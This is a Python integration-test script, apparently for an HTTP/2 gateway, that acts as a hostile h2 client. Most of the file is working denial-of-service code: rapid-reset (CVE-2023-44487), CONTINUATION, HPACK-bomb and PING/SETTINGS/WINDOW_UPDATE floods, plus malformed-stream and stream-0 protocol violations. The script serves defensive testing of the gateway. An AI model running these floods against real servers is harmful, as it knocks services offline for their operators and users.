#!/usr/bin/python3
"""h2_attack.py: a hostile h2 guest for tests/integration/h2.sh.

  h2_attack.py PROXY HOST CAFILE ATTACK [PLACEHOLDER]

CONNECTs through the gateway, speaks TLS with ALPN h2 only, sends the
connection preface and then the frames of ATTACK, written by hand
(RFC 9113 §4.1; HPACK from python3-hpack):

  rapid-reset   HEADERS then RST_STREAM, 2000 streams (CVE-2023-44487)
  continuation  one HEADERS without END_HEADERS, then 10000 CONTINUATION
                frames (CVE-2024-27316 class)
  hpack-bomb    a header in the dynamic table, then blocks that repeat
                it by index (RFC 7541 §6.1) until far past any list size
  ping          20000 PINGs, none of the acks read
  settings      20000 SETTINGS frames
  window        20000 WINDOW_UPDATEs of increment 1
  trailers      a request whose trailers hold the placeholder: its
                stream's status, then another stream's answer
  malformed     nine malformed streams (RFC 9113 §8.2, §8.3: two
                :authority, an empty :path, an uppercase name,
                connection, te: gzip, a pseudo-header after a field, LF
                in a value, a content-length DATA contradicts, one with
                the placeholder in its path), each awaiting its RST_STREAM
                PROTOCOL_ERROR: "rst N"
  stream0       a request (/hold-stream0), then HEADERS on stream 0: a
                connection error, "goaway 1"
  reconnect     rapid reset on 30 connections one after another, each
                2000 streams of /rr: "conns N secs S" (the instance's
                budget, not each connection's, bounds their rows)
  streams       150 streams opened and never ended: the first 100 live,
                the rest refused (REFUSED_STREAM); then a normal request
                on the same connection still answered
Prints one line: "goaway CODE", "eof", "timeout", or for streams
"refused N answered STATUS", and the seconds it took.
"""
import socket
import ssl
import struct
import sys
import time

import hpack

PROXY, HOST, CA, ATTACK = sys.argv[1:5]
PH = sys.argv[5] if len(sys.argv) > 5 else ""


def frame(t, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([t, flags]) + \
        struct.pack(">I", sid) + payload


def connect():
    ph, pp = PROXY.split(":")
    s = socket.create_connection((ph, int(pp)), timeout=20)
    s.sendall(("CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n" %
               (HOST, HOST)).encode())
    buf = b""
    while b"\r\n\r\n" not in buf:
        d = s.recv(4096)
        if not d:
            raise SystemExit("proxy closed")
        buf += d
    if b" 200 " not in buf.split(b"\r\n")[0]:
        raise SystemExit("CONNECT refused: %r" % buf[:80])
    ctx = ssl.create_default_context(cafile=CA)
    ctx.set_alpn_protocols(["h2"])
    t = ctx.wrap_socket(s, server_hostname=HOST)
    if t.selected_alpn_protocol() != "h2":
        raise SystemExit("no h2: %r" % t.selected_alpn_protocol())
    t.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    return t


ENC = hpack.Encoder()


def headers(path="/echo", extra=()):
    h = [(":method", "GET"), (":scheme", "https"), (":authority", HOST),
         (":path", path)] + list(extra)
    return ENC.encode(h)


def read_frames(t, deadline, want=None):
    """Read frames until EOF, GOAWAY, or want(type, flags, sid, payload)."""
    buf = b""
    while time.time() < deadline:
        t.settimeout(max(0.1, deadline - time.time()))
        try:
            d = t.recv(65536)
        except socket.timeout:
            return ("timeout", None)
        except (ssl.SSLError, OSError):
            return ("eof", None)
        if not d:
            return ("eof", None)
        buf += d
        while len(buf) >= 9:
            n = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + n:
                break
            ft, fl, sid = buf[3], buf[4], int.from_bytes(buf[5:9], "big")
            p = buf[9:9 + n]
            buf = buf[9 + n:]
            if ft == 7:
                return ("goaway", int.from_bytes(p[4:8], "big"))
            if want is not None:
                r = want(ft, fl, sid & 0x7fffffff, p)
                if r is not None:
                    return r
    return ("timeout", None)


def send_all(t, data):
    try:
        t.sendall(data)
    except (ssl.SSLError, OSError):
        pass


def flood(t, frames_iter):
    out = []
    for f in frames_iter:
        out.append(f)
        if len(out) >= 200:
            send_all(t, b"".join(out))
            out = []
    send_all(t, b"".join(out))


def main():
    global ENC
    if ATTACK == "reconnect":
        start = time.time()
        for _ in range(30):
            t = connect()
            ENC = hpack.Encoder()  # a connection's HPACK table is its own
            flood(t, (frame(1, 0x5, 2 * i + 1, headers("/rr")) +
                      frame(3, 0, 2 * i + 1, struct.pack(">I", 8))
                      for i in range(2000)))
            read_frames(t, time.time() + 10)
            t.close()
        print("conns 30 secs %.2f" % (time.time() - start))
        return
    t = connect()
    start = time.time()
    if ATTACK == "rapid-reset":
        flood(t, (frame(1, 0x5, 2 * i + 1, headers()) +
                  frame(3, 0, 2 * i + 1, struct.pack(">I", 8))
                  for i in range(2000)))
    elif ATTACK == "continuation":
        block = headers(extra=[("x-pad", "a" * 100)])
        first = frame(1, 0x1, 1, block)
        flood(t, [first] + [frame(9, 0, 1, b"\x40\x01a\x01b")
                            for _ in range(10000)])
    elif ATTACK == "hpack-bomb":
        e = hpack.Encoder()
        base = [(":method", "GET"), (":scheme", "https"),
                (":authority", HOST), (":path", "/echo")]
        first = e.encode(base + [("x-big", "b" * 1000)])
        # x-big is the newest dynamic entry: index 62 (RFC 7541 §2.3.3)
        frames = [frame(1, 0x5, 1, first)]
        for i in range(1, 50):
            frames.append(frame(1, 0x5, 2 * i + 1,
                                e.encode(base) + b"\xbe" * 4000))
        flood(t, frames)
    elif ATTACK == "trailers":
        # a request with the placeholder in its trailers: 400 on the
        # stream (http_trailer_refused), then the connection still answers
        send_all(t, frame(1, 0x4, 1, headers("/upload", [("x-api-key", PH)])) +
                 frame(0, 0, 1, b"body") +
                 frame(1, 0x5, 1, ENC.encode([("x-trailer", PH)])))

        def status(ft, fl, sid, p):
            if ft == 1 and sid == 1:
                return ("status", hpack.Decoder().decode(p)[0][1])
            return None
        r = read_frames(t, time.time() + 15, status)
        dec = hpack.Decoder()
        send_all(t, frame(1, 0x5, 3, headers("/echo", [("x-api-key", PH)])))

        def next_status(ft, fl, sid, p):
            if ft == 1 and sid == 3:
                return ("status", "seen")
            return None
        r2 = read_frames(t, time.time() + 15, next_status)
        print("trailers %s then %s %.2f" % (r[1], r2[1], time.time() - start))
        return
    elif ATTACK == "malformed":
        m, s_, a = (":method", "GET"), (":scheme", "https"), \
            (":authority", HOST)
        k = [("x-api-key", PH)]

        def pa(i):
            return (":path", "/bad/%d" % i)
        cases = [[m, s_, pa(1), a, a], [m, s_, a, (":path", "")],
                 [m, s_, pa(3), a, ("X-Upper", "1")],
                 [m, s_, pa(4), a, ("connection", "close")],
                 [m, s_, pa(5), a, ("te", "gzip")],
                 [m, s_, pa(6), a, ("x-a", "1"), (":path", "/bad/6b")],
                 [m, s_, pa(7), a, ("x-a", "a\nb")],
                 [m, s_, (":path", "/bad/" + PH), a, ("X-Upper", "1")]]
        out = b""
        for i, c in enumerate(cases):
            out += frame(1, 0x5, 2 * i + 1, hpack.Encoder().encode(
                c[:4] + k + c[4:], huffman=False))
        # content-length 10, DATA of 3 bytes ending the stream
        out += frame(1, 0x4, 17, hpack.Encoder().encode(
            [m, s_, pa(9), a, ("content-length", "10")] + k)) + \
            frame(0, 0x1, 17, b"abc")
        send_all(t, out)
        rst = set()

        def reset(ft, fl, sid, p):
            if ft == 3 and int.from_bytes(p[:4], "big") == 1:
                rst.add(sid)
            return ("rst", len(rst)) if len(rst) >= 9 else None
        r = read_frames(t, time.time() + 15, reset)
        print("rst %d %.2f" % (len(rst), time.time() - start))
        return
    elif ATTACK == "stream0":
        send_all(t, frame(1, 0x5, 1, headers("/hold-stream0",
                                             [("x-api-key", PH)])))
        send_all(t, frame(1, 0x5, 0, headers()))
    elif ATTACK == "ping":
        flood(t, (frame(6, 0, 0, struct.pack(">Q", i)) for i in range(20000)))
    elif ATTACK == "settings":
        flood(t, (frame(4, 0, 0, struct.pack(">HI", 3, 100))
                  for _ in range(20000)))
    elif ATTACK == "window":
        flood(t, (frame(8, 0, 0, struct.pack(">I", 1))
                  for _ in range(20000)))
    elif ATTACK == "streams":
        refused = set()
        hdr = [("x-api-key", PH)] if PH else []
        send_all(t, b"".join(frame(1, 0x4, 2 * i + 1,
                                   headers("/echo", hdr))
                             for i in range(150)))

        def seen(ft, fl, sid, p):
            if ft == 3 and int.from_bytes(p[:4], "big") == 7:
                refused.add(sid)
            if len(refused) >= 50:
                return ("refused", len(refused))
            return None
        r = read_frames(t, time.time() + 15, seen)
        # end the first stream: its answer must come
        send_all(t, frame(0, 0x1, 1))

        def answered(ft, fl, sid, p):
            if ft == 1 and sid == 1:
                return ("answered", "yes")
            return None
        a = read_frames(t, time.time() + 15, answered)
        print("refused %d answered %s %.2f" % (len(refused), a[1] or a[0],
                                               time.time() - start))
        return
    r = read_frames(t, time.time() + 20)
    print("%s %s %.2f" % (r[0], "" if r[1] is None else r[1],
                          time.time() - start))


main()
